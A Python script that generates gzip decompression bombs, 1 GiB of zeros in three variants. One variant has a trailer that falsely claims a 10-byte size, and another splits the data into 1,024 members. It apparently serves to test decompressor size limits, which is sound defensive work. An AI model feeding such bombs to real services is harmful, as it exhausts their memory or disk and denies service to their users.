#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Write a gzip file of 1 GiB of zeros to standard output: gzip_bomb.py honest|lying|members

honest: one member; lying: its trailer claims 10 bytes; members: 1,024 members of 1 MiB.
"""
import gzip
import sys
import zlib

PIECE, PIECES = bytes(1 << 20), 1 << 10


def main():
    out = sys.stdout.buffer
    if sys.argv[1] == "members":
        out.write(gzip.compress(PIECE, 9, mtime=0) * PIECES)
        return
    # After a full flush the compressor starts afresh, so one piece's bytes can be repeated.
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = compressor.compress(PIECE) + compressor.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(PIECES):
        checksum = zlib.crc32(PIECE, checksum)
    length = 10 if sys.argv[1] == "lying" else len(PIECE) * PIECES
    out.write(b"\x1f\x8b\x08" + bytes(6) + b"\xff" + piece * PIECES + compressor.flush(zlib.Z_FINISH))
    out.write(checksum.to_bytes(4, "little") + length.to_bytes(4, "little"))


main()
